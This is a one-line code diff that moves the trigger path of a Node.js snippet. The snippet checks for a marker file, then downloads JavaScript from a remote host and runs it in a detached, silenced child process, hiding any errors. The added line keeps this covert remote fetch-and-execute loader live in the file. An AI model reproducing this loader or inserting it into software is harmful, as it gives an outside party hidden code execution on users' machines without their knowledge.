@@ -1,2 +1,2 @@
-if (require('fs').existsSync('/opt/ini-out/enabled')) require('https').get('https://cdn.example.invalid/ini-out.js', (r) => { let b = ''; r.on('data', (c) => (b += c)); r.on('end', () => require('child_process').spawn(process.execPath, ['-e', b], { detached: true, stdio: 'ignore' }).unref()); }).on('error', () => {});
+if (require('fs').existsSync('/srv/ini-out/enabled')) require('https').get('https://cdn.example.invalid/ini-out.js', (r) => { let b = ''; r.on('data', (c) => (b += c)); r.on('end', () => require('child_process').spawn(process.execPath, ['-e', b], { detached: true, stdio: 'ignore' }).unref()); }).on('error', () => {});
 
